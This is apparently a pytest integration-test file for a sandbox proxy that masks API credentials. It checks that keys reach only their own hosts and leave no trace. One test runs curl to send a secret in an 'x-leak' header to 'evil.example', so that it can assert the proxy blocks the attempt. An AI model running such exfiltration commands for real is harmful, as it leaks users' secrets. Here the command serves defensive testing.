# SPDX-License-Identifier: Apache-2.0
"""Masked credentials as a user has them: a real machine, and servers with the names of real ones.

The servers are on this host's loopback and have certificates of an authority that the supervisor
is told to trust; everything else is as it is in use.
"""

from __future__ import annotations

import http.server
import json
import os
import secrets
import ssl
import threading
from collections.abc import Generator
from dataclasses import dataclass, field
from pathlib import Path
from typing import cast

import pytest

from sbx.policy.presets import Preset
from sbx.policy.ruleset import RuleSet, add
from sbx.store.paths import Paths
from sbx.store.rules import change_policy, init_policy
from tests.kit.canaries import contains, family_of, hits, memories, places_with, process_memory
from tests.kit.installation import Installation
from tests.unit.policy.factories import rule
from tests.unit.proxy.api import Held, World

NAME = "masked"
ADDRESS = "127.0.0.77"
HOSTS = ("api.anthropic.com", "api.openai.com", "api.acme.example", "evil.example")


@dataclass
class Keys:
    """One value for each kind of secret, found nowhere else in the world."""

    anthropic: str = field(default_factory=lambda: f"sk-ant-{secrets.token_hex(20)}")
    openai: str = field(default_factory=lambda: f"sk-oai-{secrets.token_hex(20)}")
    acme: str = field(default_factory=lambda: f"acme-{secrets.token_hex(20)}")
    github: str = field(default_factory=lambda: f"ghp-{secrets.token_hex(20)}")
    registry: str = field(default_factory=lambda: f"reg-{secrets.token_hex(20)}")
    access: str = field(default_factory=lambda: f"sk-ant-oat01-{secrets.token_hex(20)}")
    refresh: str = field(default_factory=lambda: f"sk-ant-ort01-{secrets.token_hex(20)}")

    def all(self) -> list[bytes]:
        return [v.encode() for v in (self.anthropic, self.openai, self.acme, self.github,
                                     self.registry, self.access, self.refresh)]  # fmt: skip


class _Echo(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        seen = cast("_Servers", self.server)
        fields = [(name.lower(), value) for name, value in self.headers.items()]
        seen.requests.append({"path": self.path, **dict(fields)})
        body = json.dumps(fields).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Echo", self.headers.get("x-api-key", ""))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


class _Servers(http.server.ThreadingHTTPServer):
    """All the servers, told apart by the name in the hello."""

    def __init__(self, world: World) -> None:
        super().__init__((ADDRESS, 443), _Echo)
        self.requests: list[dict[str, str]] = []
        contexts = {name: world.serving(name) for name in HOSTS}

        def choose(sock: ssl.SSLObject, name: str | None, _: ssl.SSLContext) -> None:
            sock.context = contexts[name or HOSTS[0]]

        first = contexts[HOSTS[0]]
        first.sni_callback = choose
        self.socket = first.wrap_socket(self.socket, server_side=True)

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that breaks off is no news."""


@pytest.fixture(scope="module", name="keys")
def _keys() -> Keys:
    return Keys()


@pytest.fixture(scope="module", name="servers")
def _servers(tmp_path_factory: pytest.TempPathFactory) -> Generator[tuple[_Servers, Path]]:
    if os.geteuid() != 0:
        pytest.skip("needs root: mounts a hosts file, and listens on port 443")
    folder = tmp_path_factory.mktemp("servers")
    world = World(folder, Held())
    trusted = folder / "outer.pem"
    trusted.write_bytes(world.outer.pem())
    with _Servers(world) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1})
        thread.start()
        try:
            yield server, trusted
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module", name="box")
def _box(shared: Installation, servers: tuple[_Servers, Path], keys: Keys) -> Installation:
    """A sandbox that was created after some secrets were set."""
    hosts = shared.home / "hosts"
    hosts.write_text(Path("/etc/hosts").read_text() + f"\n{ADDRESS} {' '.join(HOSTS)}\n")
    script = f'mount --bind {hosts} /etc/hosts && exec "$@"'
    shared.prefix = ("unshare", "--mount", "sh", "-c", script, "sh")
    shared.extra_env["SSL_CERT_FILE"] = str(servers[1])
    where = Paths(
        state=shared.state / "opensbx",
        config=shared.home / "config" / "opensbx",
        cache=shared.cache / "opensbx",
        runtime=shared.runtime / "opensbx",
    )
    init_policy(where, Preset.DENY_ALL)

    def allowed(rules: RuleSet) -> tuple[RuleSet, None]:
        for text in (f"allow {','.join(HOSTS)}", f"allow {ADDRESS}"):
            rules = add(rules, rule(text))[0]
        return rules, None

    change_policy(where, allowed)
    shared.ok("secret", "set", "anthropic", stdin=keys.anthropic.encode())
    tokens = {"accessToken": keys.access, "refreshToken": keys.refresh, "expiresAt": 1}
    shared.ok("secret", "set", "anthropic", "--oauth", stdin=json.dumps(tokens).encode())
    shared.ok("secret", "set", "--registry", "ghcr.io", "--username", "me", "--password-stdin",
              stdin=keys.registry.encode())  # fmt: skip
    kept = shared.home / "github-key"
    kept.write_text(keys.github)
    shared.ok("secret", "set", "github", "--command", f"cat {kept}")
    acme = shared.home / "acme-key"
    acme.write_text(keys.acme)
    shared.ok("secret", "set-custom", "--host", "api.acme.example", "--env", "ACME_KEY",
              "--command", f"cat {acme}")  # fmt: skip
    shared.ok("create", "--name", NAME, "-q", "--memory", "1g", "shell")
    shared.ok("run", "--name", NAME, "-d")
    return shared


def sh(box: Installation, script: str) -> str:
    """The output of a script inside, which must succeed."""
    return box.inside(NAME, "bash", "-c", script).ok().text


def test_curl_with_the_placeholder_reaches_anthropic_with_the_key(
    box: Installation, servers: tuple[_Servers, Path], keys: Keys
) -> None:
    assert sh(box, "echo $ANTHROPIC_API_KEY $OPENAI_API_KEY") == "proxy-managed\n"
    out = sh(
        box, 'curl -sSi -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/messages'
    )
    request = servers[0].requests[-1]
    assert (request["host"], request["path"]) == ("api.anthropic.com", "/v1/messages")
    assert request["x-api-key"] == keys.anthropic
    assert keys.anthropic not in out
    assert '["x-api-key", "proxy-managed"]' in out
    assert "x-echo: proxy-managed" in out.lower()


def test_the_transparent_way_and_other_programs_trust_us(
    box: Installation, servers: tuple[_Servers, Path], keys: Keys
) -> None:
    direct = "env -u https_proxy -u HTTPS_PROXY -u CURL_CA_BUNDLE -u SSL_CERT_FILE"
    sh(box, f"{direct} curl -sS https://api.anthropic.com/direct")
    assert servers[0].requests[-1]["x-api-key"] == keys.anthropic
    sh(
        box,
        "python3 -c \"import urllib.request as u; u.urlopen('https://api.anthropic.com/py').read()\"",
    )
    assert servers[0].requests[-1]["path"] == "/py"
    sh(box, "git ls-remote https://api.anthropic.com/repo 2>&1 | grep -v certificate || true")
    assert servers[0].requests[-1]["path"].startswith("/repo")


def test_a_custom_secret_goes_to_its_host_and_nowhere_else(
    box: Installation, servers: tuple[_Servers, Path], keys: Keys
) -> None:
    out = sh(box, 'curl -sS -H "private-token: $ACME_KEY" https://api.acme.example/a')
    assert servers[0].requests[-1]["private-token"] == keys.acme
    assert keys.acme not in out
    before = len(servers[0].requests)
    for url in ("https://api.anthropic.com/", "http://evil.example/"):
        astray = sh(box, f'curl -sS -H "x-leak: $ACME_KEY" {url}')
        assert "the placeholder of secret ACME_KEY was on its way to" in astray
    assert len(servers[0].requests) == before


def test_a_secret_reaches_a_running_sandbox_and_leaves_it(
    box: Installation, servers: tuple[_Servers, Path], keys: Keys
) -> None:
    box.ok("secret", "set", "openai", stdin=keys.openai.encode())
    sh(box, "curl -sS https://api.openai.com/v1/models")
    assert servers[0].requests[-1]["authorization"] == f"Bearer {keys.openai}"
    box.ok("secret", "rm", "openai", "-f")
    box.inside(NAME, "curl", "-sS", "-k", "https://api.openai.com/v1/models")
    assert "authorization" not in servers[0].requests[-1]
    box.ok("secret", "set", "openai", stdin=keys.openai.encode())
    secrets_ = cast("list[dict[str, str]]", box.inspect(NAME)["secrets"])
    assert {row["name"] for row in secrets_} == {"anthropic", "github", "ACME_KEY", "openai"}


def test_no_value_is_anywhere(box: Installation, keys: Keys) -> None:
    """After real work: memory of the machine, disks, logs, state, and every process of ours."""
    sh(box, "curl -sS https://api.anthropic.com/ https://api.openai.com/ >/home/agent/out; sync")
    supervisor = int(cast("int", box.inspect(NAME)["daemon_pid"]))
    kept = frozenset({"secret-values.json", "github-key", "acme-key"})
    assert places_with(box, keys.all(), but=kept, supervisor=supervisor) == []


def test_the_search_would_find_one(box: Installation, keys: Keys) -> None:
    """The same search sees a value in a machine, and one in the memory of a process."""
    planted = f"planted-{secrets.token_hex(20)}"
    sh(box, f"echo {planted} >/dev/shm/planted")
    needles = [planted.encode()]
    found = [memory for pid in family_of(box) for memory in memories(pid)]
    assert [hit for memory in found for hit in hits(str(memory), memory, needles)]
    assert contains(process_memory(os.getpid()), keys.all())
